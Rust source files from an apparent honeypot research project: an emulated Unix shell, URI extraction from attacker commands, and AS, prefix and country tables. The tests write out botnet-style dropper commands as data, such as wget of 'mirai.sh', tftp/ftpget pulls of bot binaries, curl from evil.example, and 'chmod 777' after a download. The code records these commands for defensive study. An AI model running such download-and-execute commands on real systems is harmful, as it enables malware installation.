                    .or_else(|| get_after(argv, "get"))
                    .unwrap_or_default();
                uris.push(RecordedUri(format!("tftp://{host}/{file}")));
            }
        }
        "ftpget" => {
            // busybox ftpget [-u user] HOST LOCAL REMOTE
            let pos: Vec<&String> = argv[1..]
                .iter()
                .scan(false, |skip, a| {
                    // skip option values of -u/-p/-P
                    if *skip {
                        *skip = false;
                        return Some(None);
                    }
                    if a == "-u" || a == "-p" || a == "-P" {
                        *skip = true;
                        return Some(None);
                    }
                    if a.starts_with('-') {
                        return Some(None);
                    }
                    Some(Some(a))
                })
                .flatten()
                .collect();
            if let Some(host) = pos.first() {
                let remote = pos.get(2).map(|s| s.as_str()).unwrap_or("");
                uris.push(RecordedUri(format!("ftp://{host}/{remote}")));
            }
        }
        "scp" => {
            // scp [-flags] src dst, remote side looks like user@host:path
            for tok in &argv[1..] {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        uris.push(RecordedUri(format!("scp://{}", tok.replace(':', "/"))));
                    }
                }
            }
        }
        _ => {}
    }
    uris.sort();
    uris.dedup();
    uris
}

fn tftp_host(argv: &[String]) -> Option<String> {
    // Host = first non-flag token that is not a flag value.
    let mut skip_next = false;
    for a in &argv[1..] {
        if skip_next {
            skip_next = false;
            continue;
        }
        match a.as_str() {
            "-r" | "-l" | "-b" | "-c" => skip_next = true,
            "get" | "put" => {
                // `-c get FILE`: FILE handled separately
                skip_next = true;
            }
            s if s.starts_with('-') => {}
            s => return Some(s.to_string()),
        }
    }
    None
}

fn flag_value(argv: &[String], flag: &str) -> Option<String> {
    argv.windows(2).find(|w| w[0] == flag).map(|w| w[1].clone())
}

fn get_after(argv: &[String], word: &str) -> Option<String> {
    argv.windows(2).find(|w| w[0] == word).map(|w| w[1].clone())
}

/// Extract URIs from a raw command line (lexes it first).
pub fn extract_uris(line: &str) -> Vec<RecordedUri> {
    let mut uris = Vec::new();
    for stmt in crate::lexer::split_statements(line) {
        for cmd in &stmt.pipeline {
            uris.extend(extract_from_argv(&cmd.argv));
        }
    }
    uris.sort();
    uris.dedup();
    uris
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(parts: &[&str]) -> Vec<String> {
        parts.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn http_uri_detected() {
        let u = extract_from_argv(&argv(&["wget", "http://1.2.3.4/mirai.sh"]));
        assert_eq!(u, vec![RecordedUri("http://1.2.3.4/mirai.sh".into())]);
    }

    #[test]
    fn curl_https() {
        let u = extract_from_argv(&argv(&["curl", "-O", "https://evil.example/x"]));
        assert_eq!(u.len(), 1);
        assert!(u[0].0.starts_with("https://"));
    }

    #[test]
    fn tftp_get_form() {
        let u = extract_from_argv(&argv(&["tftp", "-g", "-r", "bot.mips", "198.51.100.7"]));
        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.7/bot.mips".into())]);
    }

    #[test]
    fn tftp_c_get_form() {
        let u = extract_from_argv(&argv(&["tftp", "198.51.100.9", "-c", "get", "a.sh"]));
        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.9/a.sh".into())]);
    }

    #[test]
    fn ftpget_form() {
        let u = extract_from_argv(&argv(&[
            "ftpget",
            "-u",
            "anonymous",
            "203.0.113.5",
            "x",
            "bot.arm",
        ]));
        assert_eq!(u, vec![RecordedUri("ftp://203.0.113.5/bot.arm".into())]);
    }

    #[test]
    fn scp_form() {
        let u = extract_from_argv(&argv(&["scp", "root@198.51.100.2:/tmp/x", "."]));
        assert_eq!(
            u,
            vec![RecordedUri("scp://root@198.51.100.2//tmp/x".into())]
        );
    }

    #[test]
    fn no_uri_in_local_commands() {
        assert!(extract_from_argv(&argv(&["uname", "-a"])).is_empty());
        assert!(extract_from_argv(&argv(&["echo", "hello"])).is_empty());
    }

    #[test]
    fn full_line_extraction_dedupes() {
        let u = extract_uris("cd /tmp; wget http://h/x; wget http://h/x && chmod 777 x");
        assert_eq!(u.len(), 1);
    }

    #[test]
    fn pipeline_right_side_scanned() {
        let u = extract_uris("echo go | wget http://h/y");
        assert_eq!(u.len(), 1);
    }
}
