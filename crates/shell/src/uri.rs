//! URI extraction from command lines.
//!
//! The paper (Section 4): "If a command includes a URI (this includes anything
//! retrieved from a remote target, including retrievals via FTP, HTTP, SCP,
//! etc.), the URI is recorded as well." We recognize two shapes:
//!
//! 1. explicit scheme URIs (`http://`, `https://`, `ftp://`, `tftp://`),
//! 2. tool-specific remote references without a scheme — `tftp -g HOST`,
//!    `ftpget HOST file`, `scp user@host:path` — normalized to a
//!    pseudo-scheme form so downstream analysis sees one format.
//!
//! Two entry points per shape: the owned [`extract_from_argv`]/[`extract_uris`]
//! (compat + tests) and the allocation-free forms the interpreter hot path
//! uses — [`record_from_argv`] appends spans into the session's event arena,
//! [`primary_uri_into`] computes the lexicographically-first URI (what the
//! `tftp`/`ftpget` builtins download) in a reusable buffer.

use std::fmt::Write as _;

use crate::lexer::Words;

/// A URI recorded from a command, normalized.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct RecordedUri(pub String);

impl std::fmt::Display for RecordedUri {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

const SCHEMES: &[&str] = &["http://", "https://", "ftp://", "tftp://"];

/// Extract URIs from a single already-tokenized command.
pub fn extract_from_argv(argv: &[String]) -> Vec<RecordedUri> {
    let mut uris = Vec::new();
    let name = argv.first().map(|s| s.as_str()).unwrap_or("");

    // 1. Any token with an explicit scheme.
    for tok in argv {
        if SCHEMES.iter().any(|s| tok.starts_with(s)) {
            uris.push(RecordedUri(tok.clone()));
        }
    }

    // 2. Tool-specific forms.
    match name {
        "tftp" => {
            // busybox tftp: `tftp -g -r FILE HOST` or `tftp HOST -c get FILE`
            if let Some(host) = tftp_host(argv) {
                let file = flag_value(argv, "-r")
                    .or_else(|| get_after(argv, "get"))
                    .unwrap_or_default();
                uris.push(RecordedUri(format!("tftp://{host}/{file}")));
            }
        }
        "ftpget" => {
            // busybox ftpget [-u user] HOST LOCAL REMOTE
            let pos: Vec<&String> = argv[1..]
                .iter()
                .scan(false, |skip, a| {
                    // skip option values of -u/-p/-P
                    if *skip {
                        *skip = false;
                        return Some(None);
                    }
                    if a == "-u" || a == "-p" || a == "-P" {
                        *skip = true;
                        return Some(None);
                    }
                    if a.starts_with('-') {
                        return Some(None);
                    }
                    Some(Some(a))
                })
                .flatten()
                .collect();
            if let Some(host) = pos.first() {
                let remote = pos.get(2).map(|s| s.as_str()).unwrap_or("");
                uris.push(RecordedUri(format!("ftp://{host}/{remote}")));
            }
        }
        "scp" => {
            // scp [-flags] src dst, remote side looks like user@host:path
            for tok in &argv[1..] {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        uris.push(RecordedUri(format!("scp://{}", tok.replace(':', "/"))));
                    }
                }
            }
        }
        _ => {}
    }
    uris.sort();
    uris.dedup();
    uris
}

fn tftp_host(argv: &[String]) -> Option<String> {
    let mut it = argv[1..].iter().map(|s| s.as_str());
    tftp_host_from(&mut it).map(str::to_string)
}

fn flag_value(argv: &[String], flag: &str) -> Option<String> {
    argv.windows(2).find(|w| w[0] == flag).map(|w| w[1].clone())
}

fn get_after(argv: &[String], word: &str) -> Option<String> {
    argv.windows(2).find(|w| w[0] == word).map(|w| w[1].clone())
}

/// Extract URIs from a raw command line (lexes it first).
pub fn extract_uris(line: &str) -> Vec<RecordedUri> {
    let mut uris = Vec::new();
    for stmt in crate::lexer::split_statements(line) {
        for cmd in &stmt.pipeline {
            uris.extend(extract_from_argv(&cmd.argv));
        }
    }
    uris.sort();
    uris.dedup();
    uris
}

// ---------------------------------------------------------------------------
// Allocation-free forms over borrowed argv

/// Host = first non-flag token that is not a flag value (busybox tftp).
fn tftp_host_from<'a>(args: &mut impl Iterator<Item = &'a str>) -> Option<&'a str> {
    let mut skip_next = false;
    for a in args {
        if skip_next {
            skip_next = false;
            continue;
        }
        match a {
            "-r" | "-l" | "-b" | "-c" => skip_next = true,
            "get" | "put" => {
                // `-c get FILE`: FILE handled separately
                skip_next = true;
            }
            s if s.starts_with('-') => {}
            s => return Some(s),
        }
    }
    None
}

fn flag_value_w<'a>(argv: Words<'a>, flag: &str) -> Option<&'a str> {
    let mut it = argv.iter();
    while let Some(w) = it.next() {
        if w == flag {
            return it.next();
        }
    }
    None
}

/// The k-th positional argument of `ftpget` (option values of -u/-p/-P and
/// flags skipped), matching the owned extractor's scan.
pub(crate) fn ftpget_positional(argv: Words<'_>, idx: usize) -> Option<&str> {
    let mut skip = false;
    let mut seen = 0usize;
    for a in argv.tail(1).iter() {
        if skip {
            skip = false;
            continue;
        }
        if a == "-u" || a == "-p" || a == "-P" {
            skip = true;
            continue;
        }
        if a.starts_with('-') {
            continue;
        }
        if seen == idx {
            return Some(a);
        }
        seen += 1;
    }
    None
}

/// Append this command's URIs to the session event arena (`text` holds the
/// bytes, `uris` the spans). Same URI set as [`extract_from_argv`]; per-command
/// sort/dedup is skipped because the session log sorts and dedups once at
/// harvest and nothing observes the intermediate order.
pub(crate) fn record_from_argv(argv: Words<'_>, text: &mut String, uris: &mut Vec<(u32, u32)>) {
    let name = argv.first().unwrap_or("");
    let mut push = |text: &mut String, start: usize| {
        uris.push((start as u32, text.len() as u32));
    };

    for tok in argv.iter() {
        if SCHEMES.iter().any(|s| tok.starts_with(s)) {
            let start = text.len();
            text.push_str(tok);
            push(text, start);
        }
    }

    match name {
        "tftp" => {
            if let Some(host) = tftp_host_from(&mut argv.tail(1).iter()) {
                let file = flag_value_w(argv, "-r")
                    .or_else(|| flag_value_w(argv, "get"))
                    .unwrap_or("");
                let start = text.len();
                let _ = write!(text, "tftp://{host}/{file}");
                push(text, start);
            }
        }
        "ftpget" => {
            if let Some(host) = ftpget_positional(argv, 0) {
                let remote = ftpget_positional(argv, 2).unwrap_or("");
                let start = text.len();
                let _ = write!(text, "ftp://{host}/{remote}");
                push(text, start);
            }
        }
        "scp" => {
            for tok in argv.tail(1).iter() {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        let start = text.len();
                        text.push_str("scp://");
                        for c in tok.chars() {
                            text.push(if c == ':' { '/' } else { c });
                        }
                        push(text, start);
                    }
                }
            }
        }
        _ => {}
    }
}

/// The URI a transfer builtin acts on: the lexicographically-first of the
/// command's URIs (`extract_from_argv(..).first()` — that list is sorted).
/// Built in `buf` so steady-state calls don't allocate.
pub(crate) fn primary_uri_into<'s>(argv: Words<'_>, buf: &'s mut String) -> Option<&'s str> {
    buf.clear();
    let name = argv.first().unwrap_or("");
    let mut have_tool = false;
    match name {
        "tftp" => {
            if let Some(host) = tftp_host_from(&mut argv.tail(1).iter()) {
                let file = flag_value_w(argv, "-r")
                    .or_else(|| flag_value_w(argv, "get"))
                    .unwrap_or("");
                let _ = write!(buf, "tftp://{host}/{file}");
                have_tool = true;
            }
        }
        "ftpget" => {
            if let Some(host) = ftpget_positional(argv, 0) {
                let remote = ftpget_positional(argv, 2).unwrap_or("");
                let _ = write!(buf, "ftp://{host}/{remote}");
                have_tool = true;
            }
        }
        "scp" => {
            // Several remote operands are possible; keep the smallest
            // translated form. (The translation ':'→'/' is not
            // order-preserving, so candidates must be compared translated —
            // scp is not on the allocation-free path, a temp is fine.)
            for tok in argv.tail(1).iter() {
                if let Some(colon) = tok.find(':') {
                    if tok[..colon].contains('@') && !tok.starts_with('-') {
                        let mut cand = String::with_capacity(6 + tok.len());
                        cand.push_str("scp://");
                        for c in tok.chars() {
                            cand.push(if c == ':' { '/' } else { c });
                        }
                        if !have_tool || cand < *buf {
                            buf.clear();
                            buf.push_str(&cand);
                        }
                        have_tool = true;
                    }
                }
            }
        }
        _ => {}
    }
    let min_scheme = argv
        .iter()
        .filter(|t| SCHEMES.iter().any(|s| t.starts_with(s)))
        .min();
    match (have_tool, min_scheme) {
        (true, Some(m)) => {
            if m < buf.as_str() {
                buf.clear();
                buf.push_str(m);
            }
        }
        (true, None) => {}
        (false, Some(m)) => buf.push_str(m),
        (false, None) => return None,
    }
    Some(buf.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::LineBuf;

    fn argv(parts: &[&str]) -> Vec<String> {
        parts.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn http_uri_detected() {
        let u = extract_from_argv(&argv(&["wget", "http://1.2.3.4/mirai.sh"]));
        assert_eq!(u, vec![RecordedUri("http://1.2.3.4/mirai.sh".into())]);
    }

    #[test]
    fn curl_https() {
        let u = extract_from_argv(&argv(&["curl", "-O", "https://evil.example/x"]));
        assert_eq!(u.len(), 1);
        assert!(u[0].0.starts_with("https://"));
    }

    #[test]
    fn tftp_get_form() {
        let u = extract_from_argv(&argv(&["tftp", "-g", "-r", "bot.mips", "198.51.100.7"]));
        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.7/bot.mips".into())]);
    }

    #[test]
    fn tftp_c_get_form() {
        let u = extract_from_argv(&argv(&["tftp", "198.51.100.9", "-c", "get", "a.sh"]));
        assert_eq!(u, vec![RecordedUri("tftp://198.51.100.9/a.sh".into())]);
    }

    #[test]
    fn ftpget_form() {
        let u = extract_from_argv(&argv(&[
            "ftpget",
            "-u",
            "anonymous",
            "203.0.113.5",
            "x",
            "bot.arm",
        ]));
        assert_eq!(u, vec![RecordedUri("ftp://203.0.113.5/bot.arm".into())]);
    }

    #[test]
    fn scp_form() {
        let u = extract_from_argv(&argv(&["scp", "root@198.51.100.2:/tmp/x", "."]));
        assert_eq!(
            u,
            vec![RecordedUri("scp://root@198.51.100.2//tmp/x".into())]
        );
    }

    #[test]
    fn no_uri_in_local_commands() {
        assert!(extract_from_argv(&argv(&["uname", "-a"])).is_empty());
        assert!(extract_from_argv(&argv(&["echo", "hello"])).is_empty());
    }

    #[test]
    fn full_line_extraction_dedupes() {
        let u = extract_uris("cd /tmp; wget http://h/x; wget http://h/x && chmod 777 x");
        assert_eq!(u.len(), 1);
    }

    #[test]
    fn pipeline_right_side_scanned() {
        let u = extract_uris("echo go | wget http://h/y");
        assert_eq!(u.len(), 1);
    }

    /// The arena recorder yields the same URI multiset (pre sort/dedup) as the
    /// owned extractor, and the primary URI matches `first()` of the sorted
    /// list, across the tool-form zoo.
    #[test]
    fn borrowed_forms_match_owned_extractor() {
        let lines = [
            "wget http://1.2.3.4/mirai.sh http://0.0.0.0/a",
            "tftp -g -r bot.mips 198.51.100.7",
            "tftp 198.51.100.9 -c get a.sh",
            "ftpget -u anonymous 203.0.113.5 x bot.arm",
            "ftpget 203.0.113.5 local.bin remote.bin",
            "scp root@198.51.100.2:/tmp/x .",
            "curl -O https://evil.example/x; uname -a",
            "tftp http://also.a/scheme -g -r f 10.0.0.1",
        ];
        let mut buf = LineBuf::new();
        for line in lines {
            buf.parse(line);
            let owned_stmts = crate::lexer::split_statements(line);
            let owned_cmds: Vec<_> = owned_stmts.iter().flat_map(|s| s.pipeline.iter()).collect();
            let views: Vec<_> = buf.statements().flat_map(|s| s.commands()).collect();
            assert_eq!(views.len(), owned_cmds.len(), "line: {line}");
            {
                for (cmd, owned) in views.into_iter().zip(owned_cmds) {
                    let mut text = String::new();
                    let mut spans = Vec::new();
                    record_from_argv(cmd.argv(), &mut text, &mut spans);
                    let mut got: Vec<String> = spans
                        .iter()
                        .map(|&(s, e)| text[s as usize..e as usize].to_string())
                        .collect();
                    got.sort();
                    got.dedup();
                    let want: Vec<String> = extract_from_argv(&owned.argv)
                        .into_iter()
                        .map(|u| u.0)
                        .collect();
                    assert_eq!(got, want, "line: {line}");

                    let mut pbuf = String::new();
                    assert_eq!(
                        primary_uri_into(cmd.argv(), &mut pbuf).map(str::to_string),
                        want.first().cloned(),
                        "primary for line: {line}"
                    );
                }
            }
        }
    }
}
