//! Cowrie-class emulated Unix shell for the honeyfarm honeypot.
//!
//! After a successful login, Cowrie hands the client a fake Unix shell that
//! emulates common commands, records unknown ones verbatim, captures every
//! URI a command references, and hashes every file a command creates or
//! modifies (paper, Section 4). This crate is that shell, from scratch:
//!
//! - [`lexer`]: a POSIX-flavoured tokenizer — quotes, escapes, statement
//!   separators (`;`, `&&`, `||`, newline), pipes, and redirections,
//! - [`vfs`]: an in-memory filesystem seeded with a busybox-style layout,
//! - [`profile`]: the fake machine identity (hostname, CPU, kernel, RAM),
//! - [`builtins`]: ~30 emulated commands (sysinfo, file ops, transfer tools,
//!   account tools) with byte-for-byte plausible output,
//! - [`interp`]: the interpreter tying it together — executes input lines,
//!   applies redirections and pipes, fetches "remote" bodies through a
//!   pluggable [`RemoteFetcher`], and emits [`FileEvent`]s and URIs,
//! - [`uri`]: URI extraction matching the paper's definition ("anything
//!   retrieved from a remote target, including FTP, HTTP, SCP, …").
//!
//! # Quick example
//! ```
//! use hf_shell::{ShellSession, SystemProfile, NullFetcher};
//!
//! let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
//! let out = sh.execute("uname -a; echo pwned > /tmp/x");
//! assert!(out.rendered.contains("Linux"));
//! let events = sh.take_events();
//! assert_eq!(events.file_events.len(), 1); // /tmp/x was created and hashed
//! ```

pub mod builtins;
pub mod interp;
pub mod lexer;
pub mod profile;
pub mod uri;
pub mod vfs;

pub use interp::{
    CommandRecord, ExecResult, FileEvent, FileOp, NullFetcher, QuietExec, RemoteFetcher,
    SessionEvents, ShellSession, SyntheticFetcher,
};
pub use lexer::reference::Lexer;
pub use lexer::{
    for_each_command_head, split_statements, LineBuf, Redirection, SimpleCommand, Statement,
};
pub use profile::SystemProfile;
pub use uri::extract_uris;
pub use vfs::{NodeKind, Vfs, VfsError};
