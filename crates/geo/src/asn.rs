//! Autonomous systems.
//!
//! The paper reports client IPs from ~17.7k ASes and a honeyfarm deployed in
//! 65 ASes "with a focus on residential networks" (Section 4). We model an AS
//! as an anonymized number, a home country, and a coarse network class — the
//! three attributes the paper's analysis actually uses (it explicitly
//! anonymizes AS identities, reporting only counts and network types).

use serde::{Deserialize, Serialize};

use crate::country::CountryId;

/// Autonomous system number (synthetic, anonymized — matching the paper's
/// ethics posture of never naming networks).
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default,
)]
pub struct Asn(pub u32);

impl std::fmt::Display for Asn {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "AS{}", self.0)
    }
}

/// Coarse network class of an AS.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum NetworkClass {
    /// Eyeball / residential broadband.
    Residential,
    /// Hosting / datacenter (e.g. the Russian datacenter prefix behind the
    /// paper's NO_CMD surges).
    Datacenter,
    /// Hyperscale cloud.
    Cloud,
    /// Academic / research.
    Academic,
    /// Mobile carrier.
    Mobile,
}

impl NetworkClass {
    /// All classes, for iteration in reports.
    pub const ALL: [NetworkClass; 5] = [
        NetworkClass::Residential,
        NetworkClass::Datacenter,
        NetworkClass::Cloud,
        NetworkClass::Academic,
        NetworkClass::Mobile,
    ];

    /// Short label used in report tables.
    pub fn label(self) -> &'static str {
        match self {
            NetworkClass::Residential => "residential",
            NetworkClass::Datacenter => "datacenter",
            NetworkClass::Cloud => "cloud",
            NetworkClass::Academic => "academic",
            NetworkClass::Mobile => "mobile",
        }
    }
}

/// Registry record for one AS.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct AsInfo {
    /// The AS number.
    pub asn: Asn,
    /// Country the AS is homed in.
    pub country: CountryId,
    /// Coarse network class.
    pub class: NetworkClass,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_format() {
        assert_eq!(Asn(64512).to_string(), "AS64512");
    }

    #[test]
    fn class_labels_unique() {
        let mut labels: Vec<&str> = NetworkClass::ALL.iter().map(|c| c.label()).collect();
        labels.sort();
        labels.dedup();
        assert_eq!(labels.len(), NetworkClass::ALL.len());
    }
}
