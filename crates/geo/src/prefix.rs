//! IPv4 prefixes and a longest-prefix-match table.
//!
//! This is the synthetic routing table behind the MaxMind-substitute lookups:
//! every AS owns one or more disjoint prefixes, and `PrefixTable::lookup` maps
//! any covered address to its AS. Lookup is a binary search over prefixes
//! sorted by network address; because the allocator only hands out disjoint
//! prefixes, the predecessor prefix is the unique candidate.

use serde::{Deserialize, Serialize};

use crate::asn::Asn;
use crate::ip::Ip4;

/// An IPv4 CIDR prefix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Prefix {
    /// Network address (host bits zero).
    pub net: Ip4,
    /// Prefix length in bits, 0..=32.
    pub len: u8,
}

impl Prefix {
    /// Construct, masking out host bits.
    pub fn new(net: Ip4, len: u8) -> Self {
        assert!(len <= 32);
        Prefix {
            net: Ip4(net.0 & Self::mask(len)),
            len,
        }
    }

    /// Netmask for a prefix length.
    pub fn mask(len: u8) -> u32 {
        if len == 0 {
            0
        } else {
            u32::MAX << (32 - len)
        }
    }

    /// Does this prefix cover `ip`?
    pub fn contains(&self, ip: Ip4) -> bool {
        (ip.0 & Self::mask(self.len)) == self.net.0
    }

    /// Number of addresses covered.
    pub fn size(&self) -> u64 {
        1u64 << (32 - self.len)
    }

    /// First address in the prefix.
    pub fn first(&self) -> Ip4 {
        self.net
    }

    /// Last address in the prefix.
    pub fn last(&self) -> Ip4 {
        Ip4(self.net.0 | !Self::mask(self.len))
    }

    /// The `i`-th address within the prefix (0-based). Panics if out of range.
    pub fn addr(&self, i: u64) -> Ip4 {
        assert!(i < self.size());
        Ip4(self.net.0 + i as u32)
    }

    /// Do two prefixes overlap?
    pub fn overlaps(&self, other: &Prefix) -> bool {
        self.contains(other.net) || other.contains(self.net)
    }
}

impl std::fmt::Display for Prefix {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}/{}", self.net, self.len)
    }
}

/// A routing-table entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Route {
    /// The prefix.
    pub prefix: Prefix,
    /// Originating AS.
    pub asn: Asn,
}

/// Longest-prefix-match table over disjoint prefixes.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct PrefixTable {
    /// Routes sorted by network address. Maintained disjoint by `insert`.
    routes: Vec<Route>,
    /// Whether `routes` is currently sorted (lazily re-sorted before lookup).
    sorted: bool,
}

impl PrefixTable {
    /// Empty table.
    pub fn new() -> Self {
        Self::default()
    }

    /// Insert a route. Returns `false` (and does not insert) if the prefix
    /// overlaps an existing route — the synthetic allocator never produces
    /// overlaps, so this doubles as an integrity check.
    pub fn insert(&mut self, prefix: Prefix, asn: Asn) -> bool {
        if self.routes.iter().any(|r| r.prefix.overlaps(&prefix)) {
            return false;
        }
        self.routes.push(Route { prefix, asn });
        self.sorted = false;
        true
    }

    /// Bulk insert without the O(n) overlap scan; caller guarantees
    /// disjointness (used by the deterministic allocator). Debug builds still
    /// verify after `freeze`.
    pub fn insert_unchecked(&mut self, prefix: Prefix, asn: Asn) {
        self.routes.push(Route { prefix, asn });
        self.sorted = false;
    }

    /// Sort and (in debug builds) verify disjointness.
    pub fn freeze(&mut self) {
        self.routes.sort_by_key(|r| (r.prefix.net, r.prefix.len));
        self.sorted = true;
        debug_assert!(
            self.routes
                .windows(2)
                .all(|w| !w[0].prefix.overlaps(&w[1].prefix)),
            "overlapping prefixes in table"
        );
    }

    /// Look up the route covering `ip`, if any.
    pub fn lookup(&self, ip: Ip4) -> Option<Route> {
        assert!(self.sorted, "call freeze() before lookup()");
        // Find the last route with net <= ip; disjointness makes it unique.
        let idx = self.routes.partition_point(|r| r.prefix.net.0 <= ip.0);
        if idx == 0 {
            return None;
        }
        let r = self.routes[idx - 1];
        r.prefix.contains(ip).then_some(r)
    }

    /// All routes (sorted if frozen).
    pub fn routes(&self) -> &[Route] {
        &self.routes
    }

    /// Number of routes.
    pub fn len(&self) -> usize {
        self.routes.len()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.routes.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn p(s: &str, len: u8) -> Prefix {
        Prefix::new(Ip4::parse(s).unwrap(), len)
    }

    #[test]
    fn prefix_basics() {
        let pre = p("10.1.2.3", 16);
        assert_eq!(pre.net, Ip4::parse("10.1.0.0").unwrap());
        assert_eq!(pre.size(), 65_536);
        assert_eq!(pre.first(), Ip4::parse("10.1.0.0").unwrap());
        assert_eq!(pre.last(), Ip4::parse("10.1.255.255").unwrap());
        assert!(pre.contains(Ip4::parse("10.1.200.7").unwrap()));
        assert!(!pre.contains(Ip4::parse("10.2.0.0").unwrap()));
        assert_eq!(pre.to_string(), "10.1.0.0/16");
    }

    #[test]
    fn addr_indexing() {
        let pre = p("192.0.2.0", 24);
        assert_eq!(pre.addr(0), Ip4::parse("192.0.2.0").unwrap());
        assert_eq!(pre.addr(255), Ip4::parse("192.0.2.255").unwrap());
    }

    #[test]
    fn overlap_detection() {
        assert!(p("10.0.0.0", 8).overlaps(&p("10.5.0.0", 16)));
        assert!(p("10.5.0.0", 16).overlaps(&p("10.0.0.0", 8)));
        assert!(!p("10.0.0.0", 16).overlaps(&p("10.1.0.0", 16)));
    }

    #[test]
    fn table_lookup() {
        let mut t = PrefixTable::new();
        assert!(t.insert(p("10.0.0.0", 16), Asn(1)));
        assert!(t.insert(p("10.1.0.0", 16), Asn(2)));
        assert!(t.insert(p("172.16.0.0", 12), Asn(3)));
        assert!(
            !t.insert(p("10.0.128.0", 24), Asn(4)),
            "overlap must be rejected"
        );
        t.freeze();
        assert_eq!(
            t.lookup(Ip4::parse("10.0.3.4").unwrap()).unwrap().asn,
            Asn(1)
        );
        assert_eq!(
            t.lookup(Ip4::parse("10.1.255.255").unwrap()).unwrap().asn,
            Asn(2)
        );
        assert_eq!(
            t.lookup(Ip4::parse("172.31.0.1").unwrap()).unwrap().asn,
            Asn(3)
        );
        assert_eq!(t.lookup(Ip4::parse("11.0.0.0").unwrap()), None);
        assert_eq!(t.lookup(Ip4::parse("9.255.255.255").unwrap()), None);
    }

    #[test]
    fn zero_length_prefix_covers_everything() {
        let mut t = PrefixTable::new();
        t.insert(p("0.0.0.0", 0), Asn(9));
        t.freeze();
        assert_eq!(t.lookup(Ip4(0)).unwrap().asn, Asn(9));
        assert_eq!(t.lookup(Ip4(u32::MAX)).unwrap().asn, Asn(9));
    }

    proptest! {
        /// Every address inside an inserted prefix resolves to its AS, for a
        /// deterministic non-overlapping layout of /16s.
        #[test]
        fn prop_lookup_consistent(block in 0u32..256, host in 0u32..65_536) {
            let mut t = PrefixTable::new();
            // 10.0.0.0/16 .. 10.255.0.0/16 owned by ASN = second octet.
            for b in 0..256u32 {
                t.insert_unchecked(
                    Prefix::new(Ip4((10 << 24) | (b << 16)), 16),
                    Asn(b),
                );
            }
            t.freeze();
            let ip = Ip4((10 << 24) | (block << 16) | host);
            prop_assert_eq!(t.lookup(ip).unwrap().asn, Asn(block));
        }
    }
}
