//! Country and continent catalog.
//!
//! A fixed list of countries (ISO 3166-1 alpha-2 codes) large enough to cover
//! both the honeyfarm deployment (55 countries) and the client-origin mixes
//! the paper reports. Countries are referenced by a dense [`CountryId`] so the
//! analysis can use arrays instead of string maps.

use serde::{Deserialize, Serialize};

/// Continent, also used as the paper's "region" for regional-diversity
/// analysis (same country / same continent / different continent).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Continent {
    Africa,
    Asia,
    Europe,
    NorthAmerica,
    SouthAmerica,
    Oceania,
}

impl Continent {
    /// Short code used in reports.
    pub fn code(self) -> &'static str {
        match self {
            Continent::Africa => "AF",
            Continent::Asia => "AS",
            Continent::Europe => "EU",
            Continent::NorthAmerica => "NA",
            Continent::SouthAmerica => "SA",
            Continent::Oceania => "OC",
        }
    }
}

impl std::fmt::Display for Continent {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.code())
    }
}

/// Dense country index into [`CATALOG`].
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default,
)]
pub struct CountryId(pub u16);

/// A catalog entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Country {
    /// ISO 3166-1 alpha-2 code.
    pub code: &'static str,
    /// English short name.
    pub name: &'static str,
    /// Continent / region.
    pub continent: Continent,
}

use Continent::*;

/// The country catalog. Order is stable: `CountryId(i)` indexes this array.
pub const CATALOG: &[Country] = &[
    Country {
        code: "US",
        name: "United States",
        continent: NorthAmerica,
    },
    Country {
        code: "CN",
        name: "China",
        continent: Asia,
    },
    Country {
        code: "IN",
        name: "India",
        continent: Asia,
    },
    Country {
        code: "RU",
        name: "Russia",
        continent: Europe,
    },
    Country {
        code: "BR",
        name: "Brazil",
        continent: SouthAmerica,
    },
    Country {
        code: "TW",
        name: "Taiwan",
        continent: Asia,
    },
    Country {
        code: "MX",
        name: "Mexico",
        continent: NorthAmerica,
    },
    Country {
        code: "IR",
        name: "Iran",
        continent: Asia,
    },
    Country {
        code: "JP",
        name: "Japan",
        continent: Asia,
    },
    Country {
        code: "VN",
        name: "Vietnam",
        continent: Asia,
    },
    Country {
        code: "SG",
        name: "Singapore",
        continent: Asia,
    },
    Country {
        code: "DE",
        name: "Germany",
        continent: Europe,
    },
    Country {
        code: "SE",
        name: "Sweden",
        continent: Europe,
    },
    Country {
        code: "NL",
        name: "Netherlands",
        continent: Europe,
    },
    Country {
        code: "FR",
